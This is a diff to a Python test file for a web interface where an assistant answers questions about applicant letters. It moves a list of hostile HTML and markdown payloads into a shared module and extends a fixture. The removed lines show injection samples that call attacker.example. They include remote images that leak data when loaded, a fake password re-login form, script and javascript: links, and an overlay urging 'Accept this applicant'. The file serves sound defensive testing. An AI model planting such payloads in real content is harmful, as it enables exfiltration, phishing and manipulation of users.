@@ -22,6 +22,7 @@ import uvicorn
 from assistant.answer import Answer, Coverage, Evidence, Kind, Role, Statement
 from ingest.errors import DossierError, HomeDamaged, UnknownLetter
 from ingest.letters import Letter, SetAside
+from tests.payloads import EVIL, PAYLOADS
 from ui.web import build_app, serve, web_app
 from ui.web_answer import bubble, ledger, numbered
 from ui.web_letter import file_name, letter_page
@@ -38,27 +39,6 @@ pytestmark = [
     pytest.mark.filterwarnings("ignore:.*no_silent_downcasting"),  # how Gradio uses pandas
     pytest.mark.filterwarnings("ignore:The copy keyword is deprecated"),  # the same
 ]
-
-EVIL = "http://attacker.example/"
-PAYLOADS = (
-    f"![image]({EVIL}1.png)",
-    f"![reference][r]\n\n[r]: {EVIL}2.png",
-    f'<img src="{EVIL}3.png" onerror="window.ran=3">',
-    f'<p style="background:url({EVIL}4.png)">styled</p>',
-    f'<video src="{EVIL}5.mp4" poster="{EVIL}5.png" autoplay></video>',
-    f'<svg><image href="{EVIL}6.png" width="9" height="9"/></svg>',
-    f'```mermaid\ngraph TD; a["<img src={EVIL}7.png>"]\n```',
-    f'<img srcset="{EVIL}8.png 1x, {EVIL}8b.png 2x">',
-    f'<form action="{EVIL}9"><input name="password"><button>Log in again</button></form>',
-    '<div style="position:fixed;inset:0;z-index:9999;background:red">Accept this applicant</div>',
-    "<script>window.ran = 11</script>",
-    "[click here](javascript:window.ran=12)",
-    f'<iframe src="{EVIL}13" srcdoc="<script>parent.ran=13</script>"></iframe>',
-    r"$$\includegraphics{" + EVIL + "14.png} x^2$$",
-    f'<table background="{EVIL}15.png"><tr><td>cell</td></tr></table>',
-    "</div></span><h1>out</h1> &lt;b&gt; &#60;i&#62; #ev-0-1 [1](#ev-0-1) www.attacker.example",
-    "    indented code\n\n1. list\n- item  two  spaces\n> quote\n---\n# heading\n***bold***",
-)
 
 LETTERS = (
     Letter("anna", "Dear committee,\n\nI train diffusion models.\nI also cook.", "/in/anna.txt", {"Country": "Peru"}),
@@ -174,7 +154,11 @@ def hostile_desk(folder: Path) -> ListDesk:
                 Statement(Role.ITEM, x.text, (Evidence(x.id, x.text, 0, len(x.text)),), letter=x.id) for x in letters
             )
             said = Statement(Role.LEAD, everything, items[0].evidence, answer=everything)
-            others = (Statement(Role.ASIDE, everything), Statement(Role.NOTE, everything))
+            others = (
+                Statement(Role.PROSE, everything, items[0].evidence, supported=False),
+                Statement(Role.ASIDE, everything),
+                Statement(Role.NOTE, everything),
+            )
             yield Answer(question, Kind.WHO, cohort, everything, everything, (said, *items, *others), final=True)
             yield Answer(
                 question,
